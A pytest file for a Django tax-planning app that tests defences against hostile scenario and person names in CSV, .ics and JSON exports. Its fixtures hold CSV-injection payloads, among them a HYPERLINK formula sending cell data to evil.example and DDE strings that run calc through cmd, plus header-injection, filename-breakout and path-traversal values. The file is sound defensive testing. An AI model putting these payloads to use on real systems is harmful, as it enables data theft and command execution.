"""Exports with hostile names (issue 17): formula-leading CSV cells are shown as text (OWASP
CSV injection), a line break in a scenario name is folded and escaped in the .ics, never a
500, and download file names are plain ASCII, for the owner and on share links."""

from __future__ import annotations

import csv
import io
import re

import icalendar
import pytest
import vobject
from django.test import Client
from django.urls import reverse

from planner.models import NAME_MAX_LENGTH, Scenario, ShareLink
from planner.packet import csv_cell
from tests.web.conftest import make_draft

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_NAMES = [
    "Plan with a\nline break",
    'Quote"; filename="evil.exe',
    "Slashes/../..\\windows\\system32",
    "\r\nContent-Type: text/html",
    # As long as a scenario name may be (NAME_MAX_LENGTH; PostgreSQL enforces it).
    ("Ünïcødé plan 😀 " + "long " * 40)[:NAME_MAX_LENGTH],
]
FILE_NAME = re.compile(r'attachment; filename="[a-z0-9][a-z0-9_-]*-2026\.(ics|csv|json)"')


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_leading_text_becomes_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["You", "Sam O'Neil", 24500, -1200, 0.5, "", None])
def test_other_cells_are_unchanged(value) -> None:
    assert csv_cell(value) == value


def test_a_person_named_as_a_formula_is_text_in_the_shared_csv(client: Client, alice) -> None:
    draft = make_draft()
    draft.inputs["people"][0]["name"] = FORMULAS[0]
    link = ShareLink.create_for(Scenario.create_from_draft(alice, draft, "Plan"))
    response = client.get(reverse("planner:shared_csv", args=[link.token]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    people = {row["person"] for row in rows if row["section"] == "form_8606"}
    assert people == {"'" + FORMULAS[0]}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


@pytest.fixture(params=HOSTILE_NAMES)
def hostile(request, alice) -> Scenario:
    return Scenario.objects.create(
        owner=alice, name=request.param, form=make_draft().stored(), tax_year=2026
    )


def _calendar_name(body: bytes) -> str:
    calendar = icalendar.Calendar.from_ical(body)
    assert vobject.readOne(body.decode()).vevent_list  # a second parser reads it too
    assert all(len(line) <= 75 for line in body.split(b"\r\n")), "folded at 75 octets"
    # Each event's description ends with the plan's name and link (a TEXT value, unescaped).
    descriptions = {str(event["DESCRIPTION"]) for event in calendar.walk("VEVENT")}
    names = {text.split("The plan: ", 1)[1].rsplit("\n", 1)[0] for text in descriptions}
    assert len(names) == 1
    return names.pop()


def test_the_owners_calendar_keeps_a_hostile_name(alice_client: Client, hostile) -> None:
    response = alice_client.get(reverse("planner:scenario_calendar", args=[hostile.code]))
    assert response.status_code == 200
    assert FILE_NAME.fullmatch(response["Content-Disposition"])
    assert _calendar_name(response.content) == hostile.name.replace("\r\n", "\n")


@pytest.mark.parametrize("view", ["shared_calendar", "shared_csv", "shared_json"])
def test_share_link_files_keep_working_with_a_hostile_name(
    client: Client, hostile, view: str
) -> None:
    link = ShareLink.create_for(hostile)
    response = client.get(reverse(f"planner:{view}", args=[link.token]))
    assert response.status_code == 200
    assert FILE_NAME.fullmatch(response["Content-Disposition"]), response["Content-Disposition"]
    if view == "shared_calendar":
        assert _calendar_name(response.content) == hostile.name.replace("\r\n", "\n")
